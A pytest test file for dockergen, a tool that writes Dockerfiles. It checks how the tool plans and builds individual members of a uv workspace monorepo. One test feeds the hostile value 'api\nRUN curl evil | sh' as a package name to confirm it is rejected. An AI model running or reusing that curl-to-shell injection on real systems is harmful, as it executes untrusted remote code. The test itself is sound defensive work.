"""Workspaces and monorepos (issue 15, part 3): `--package NAME` builds one member of a uv
workspace with only the members it needs, and running dockergen from inside a member plans it
from the workspace root, with the root's lock.

The workspace (tests/workspace_members) has a virtual root and four members: ws-api depends on
the ws-core library, which depends on six; ws-cli depends on nothing; ws-web, not a package (no
[build-system]), runs a script and depends on ws-core. Its uv.lock was made by the
real uv 0.13.8; tests/e2e/test_workspace_package.py locks it again and builds both apps' images.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

import dockergen
from dockergen.api import generate, status, write
from dockergen.cli import main
from dockergen.facts import InspectError

WORKSPACE = Path(__file__).resolve().parent / "workspace_members"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """A writable copy of the locked workspace."""
    target = tmp_path / "monorepo"
    shutil.copytree(WORKSPACE, target)
    return target


def cli(*args: str):
    return CliRunner().invoke(main, list(args))


def test_a_member_is_inspected_from_its_own_manifest_and_the_workspace_lock(workspace):
    facts = dockergen.inspect(workspace, package="ws-api")
    assert (facts.name, facts.package, facts.package_dir) == ("ws-api", "ws-api", "packages/api")
    assert facts.manager == "uv" and facts.lock_file == "uv.lock" and facts.lock_consistent is True
    assert facts.entrypoint is not None and facts.entrypoint.command == ("ws-api",)
    assert {p.name: p.version for p in facts.runtime_packages} == {"six": "1.17.0", "ws-core": "0.1.0"}
    assert facts.workspace_members == ("packages/core",)  # not packages/cli: ws-api does not need it
    assert "packages/cli/pyproject.toml" in facts.inputs  # uv reads every member to find the workspace
    assert "packages/api/pyproject.toml requires-python '>=3.11'" in " ".join(facts.python.reasons)


def test_a_package_members_command_is_found_in_its_own_directory(workspace):
    """Its Procfile, app object or manage.py are where the member is, not at the workspace root
    (fastapi/full-stack-fastapi-template: backend/app/main.py)."""
    (workspace / "packages/api/Procfile").write_text("web: ws-api --serve\n")
    facts = dockergen.inspect(workspace, package="ws-api")
    assert facts.entrypoint is not None and facts.entrypoint.command == ("ws-api", "--serve")


def test_a_member_that_needs_no_other_member_is_built_alone(workspace):
    facts = dockergen.inspect(workspace, package="ws_CLI")  # names compare normalized, as uv compares them
    assert facts.package == "ws-cli" and facts.runtime_packages == () and facts.workspace_members == ()


def test_the_dockerfile_syncs_the_members_dependencies_and_builds_only_the_members_it_needs(workspace):
    api = generate(workspace, package="ws-api")["packages/api/Dockerfile"]
    assert "--no-install-project --package ws-api --no-install-workspace" in api
    assert "--wheel --out-dir /dist /src/packages/api \\" in api
    assert "--wheel --out-dir /dist /src/packages/core \\" in api
    assert "/src/packages/cli" not in api and "--out-dir /dist /src \\" not in api  # nor the virtual root
    assert 'CMD ["ws-api"]' in api
    # Only the directories it builds reach the project stage: a change to ws-cli leaves its layers alone.
    assert "COPY packages/api /src/packages/api\nCOPY packages/core /src/packages/core\n" in api
    assert "COPY . /src\n" not in api
    cli_file = generate(workspace, package="ws-cli")["packages/cli/Dockerfile"]
    assert "/src/packages/cli \\" in cli_file and "/src/packages/core" not in cli_file


def test_a_member_that_is_no_package_runs_from_the_workspace_root_with_its_members_as_wheels(workspace):
    facts = dockergen.inspect(workspace, package="ws-web")
    assert not facts.installable and facts.workspace_members == ("packages/core",)
    web = generate(workspace, package="ws-web")["packages/web/Dockerfile"]
    assert "COPY packages/core /src/packages/core\n" in web and "/src/packages/web" not in web
    assert "WORKDIR /app\nCOPY . /app\n" in web and 'CMD ["python", "packages/web/main.py"]' in web


def test_two_members_are_written_side_by_side_and_both_stay_current(workspace):
    assert write(workspace, package="ws-api") == {
        "packages/api/Dockerfile": "created",
        "packages/api/Dockerfile.dockerignore": "created",
    }
    assert write(workspace, package="ws-cli") == {
        "packages/cli/Dockerfile": "created",
        "packages/cli/Dockerfile.dockerignore": "created",
    }
    assert not (workspace / ".dockerignore").exists() and not (workspace / "Dockerfile").exists()
    for package in ("ws-api", "ws-cli"):
        assert {s.name: s.state for s in status(workspace, package=package)} == {
            f"packages/{package[3:]}/Dockerfile": "current",
            f"packages/{package[3:]}/Dockerfile.dockerignore": "current",
        }


def test_a_members_dockerfile_leaves_the_root_projects_own_dockerfile_alone(workspace):
    """The root may be an app with a Dockerfile of dockergen's: a member's is no move of it."""
    write(workspace, package="ws-cli")
    shutil.copy(workspace / "packages" / "cli" / "Dockerfile", workspace / "Dockerfile")  # unedited: ours
    actions = write(workspace, package="ws-api")
    assert "Dockerfile" not in actions and (workspace / "Dockerfile").exists()


def test_a_member_is_planned_with_the_roots_settings_under_its_own(workspace):
    root, member = workspace / "pyproject.toml", workspace / "packages" / "api" / "pyproject.toml"
    root.write_text(root.read_text() + '\n[tool.dockergen]\npython = "3.13"\noutput = "docker/Dockerfile"\n')
    member.write_text(member.read_text() + '\n[tool.dockergen]\nentrypoint = "python -m ws_api"\n')
    facts = dockergen.inspect(workspace, package="ws-api")
    assert facts.python.version == "3.13"
    assert facts.entrypoint is not None and facts.entrypoint.command == ("python", "-m", "ws_api")
    assert facts.settings["output"] == "packages/api/Dockerfile"  # the root's output is the root app's


def test_run_from_inside_a_member_dockergen_plans_it_at_the_workspace_root(workspace, monkeypatch):
    facts = dockergen.inspect(workspace / "packages" / "api")
    assert Path(facts.root) == workspace.resolve() and facts.package == "ws-api"
    assert facts.package_reason.startswith("run from packages/api, a member of the uv workspace")
    monkeypatch.chdir(workspace / "packages" / "api")
    result = cli("init")
    assert result.exit_code == 0, result.output
    assert "package      packages/api (run from packages/api" in result.output
    assert "Next: docker build -f ../../packages/api/Dockerfile -t ws-api ../.." in result.output
    assert (workspace / "packages" / "api" / "Dockerfile").exists()
    assert not (workspace / "packages" / "api" / "packages").exists()
    assert cli("check").exit_code == 0


def test_a_member_with_a_lock_of_its_own_stays_a_project_of_its_own(workspace):
    member = workspace / "packages" / "cli"
    shutil.copy(workspace / "uv.lock", member / "uv.lock")  # what it holds does not matter here
    facts = dockergen.inspect(member)
    assert facts.package is None and Path(facts.root) == member and facts.lock_file == "uv.lock"


@pytest.mark.parametrize("where", ["member", "between"])
def test_the_walk_up_stops_at_a_repository_root(workspace, where):
    (workspace / "packages" / "api" / ".git" if where == "member" else workspace / "packages" / ".git").mkdir()
    facts = dockergen.inspect(workspace / "packages" / "api", entrypoint="ws-api")
    assert facts.package is None and facts.lock_file is None  # the member alone, as a lockless project


def test_a_directory_the_workspace_excludes_is_no_member(workspace):
    root = workspace / "pyproject.toml"
    root.write_text(
        root.read_text().replace('members = ["packages/*"]', 'members = ["packages/*"]\nexclude = ["packages/api"]')
    )
    assert dockergen.inspect(workspace / "packages" / "api", entrypoint="ws-api").package is None


def test_the_package_setting_in_the_root_pyproject_picks_the_member(workspace):
    root = workspace / "pyproject.toml"
    root.write_text(root.read_text() + '\n[tool.dockergen]\npackage = "ws-cli"\n')
    assert dockergen.inspect(workspace).package == "ws-cli"
    assert dockergen.inspect(workspace, package="ws-api").package == "ws-api"  # the flag wins


def test_inspect_json_names_the_member(workspace):
    result = cli("inspect", "--json", "--package", "ws-api", str(workspace))
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert (data["package"], data["package_dir"]) == ("ws-api", "packages/api")
    assert data["package_reason"] == "--package / [tool.dockergen] package"
    assert data["workspace_members"] == ["packages/core"]


@pytest.mark.parametrize(
    ("package", "message"),
    [
        ("nope", "package = 'nope' is not a member of the workspace (members: ws-api, ws-cli, ws-core, ws-web)"),
        ("api\nRUN curl evil | sh", "is not a valid workspace member name"),
    ],
)
def test_an_unknown_or_hostile_member_name_is_a_clear_error(workspace, package, message):
    result = cli("inspect", "--package", package, str(workspace))
    assert result.exit_code == 2 and message in result.output, result.output


def test_package_on_a_project_that_is_no_workspace_is_a_clear_error(make_project):
    project = make_project({"requirements.txt": "six==1.17.0\n", "main.py": "print(1)\n"})
    result = cli("inspect", "--package", "six", str(project))
    assert result.exit_code == 2
    assert "package = 'six': this project is not a uv workspace" in result.output


def test_compose_and_ci_are_the_root_apps_and_refused_for_a_member(workspace):
    root = workspace / "pyproject.toml"
    root.write_text(root.read_text() + '\n[tool.dockergen]\ncompose = true\nci = "bake"\n')
    assert "compose" not in dockergen.inspect(workspace, package="ws-api").settings
    with pytest.raises(InspectError, match="compose with package: not supported for a workspace member yet"):
        dockergen.inspect(workspace, package="ws-api", compose=True)


def test_an_error_in_a_members_pyproject_names_the_members_file(workspace):
    manifest = workspace / "packages" / "cli" / "pyproject.toml"
    manifest.write_text(manifest.read_text().replace("dependencies = []", 'dependencies = "six"'))
    result = cli("inspect", "--package", "ws-cli", str(workspace))
    assert result.exit_code == 2
    assert "packages/cli/pyproject.toml: project.dependencies must be a list" in result.output


def test_package_with_another_manager_is_a_clear_error(workspace):
    with pytest.raises(InspectError, match="workspace members are built with uv, not poetry"):
        dockergen.inspect(workspace, package="ws-api", manager="poetry")


def test_no_walk_happens_when_the_directory_is_not_a_python_project(tmp_path):
    with pytest.raises(InspectError, match="no Python project found"):
        dockergen.inspect(tmp_path)
    assert os.listdir(tmp_path) == []
